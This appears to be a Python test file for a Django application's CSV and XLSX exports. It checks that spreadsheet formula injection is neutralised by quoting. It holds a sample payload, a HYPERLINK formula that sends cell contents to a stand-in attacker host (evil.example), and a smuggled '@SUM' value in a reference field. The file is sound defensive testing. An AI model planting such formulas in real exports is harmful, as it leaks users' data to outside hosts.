"""List exports (CSV and XLSX) and `pacta export events` write no runnable formulas:
a party named "=HYPERLINK(…)" comes out quoted, a negative amount stays a number."""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from pacta.core.actions.events import do_import_events
from pacta.core.actions.register import do_create_party
from pacta.core.imports import read_event_records
from pacta.core.tests.stored_world import run_command
from django.urls import reverse

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def evil_party(users):
    return do_create_party(acting_user=users["mona"], code="EVIL", name=EVIL, country="DE")


def test_the_csv_export_of_a_list_quotes_a_formula(evil_party, as_user):
    response = as_user("vera").get(reverse("front:parties") + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert ["'" + EVIL] == [cell for row in rows for cell in row if "HYPERLINK" in cell]


def test_the_xlsx_export_of_a_list_quotes_a_formula(evil_party, as_user):
    response = as_user("vera").get(reverse("front:parties") + "?format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell.value for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert cells == ["'" + EVIL]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_event_export_quotes_a_reference_and_keeps_a_negative_amount(evil_party, users, tmp_path):
    frame = read_event_records([{"id": "c-1", "kind": "credit_note", "party": "EVIL", "at": "2025-03-03",
                                 "ref": "@SUM(1+1)*cmd", "quantity": "5", "amount": "-60", "currency": "EUR"}],
                               known_parties={"EVIL"})
    do_import_events(frame, source="erp", acting_user=users["mona"])
    code, out, err = run_command("export", "events")
    assert code == 0, err
    row = next(csv.DictReader(io.StringIO(out)))
    assert (row["ref"], row["amount"]) == ("'@SUM(1+1)*cmd", "-60")
    out_file = tmp_path / "events.xlsx"
    assert run_command("export", "events", "--format", "xlsx", "--out", str(out_file))[0] == 0
    sheet = openpyxl.load_workbook(out_file).active
    header, values = [c.value for c in sheet[1]], [c.value for c in sheet[2]]
    cells = dict(zip(header, values))
    assert cells["ref"] == "'@SUM(1+1)*cmd" and cells["amount"] == -60
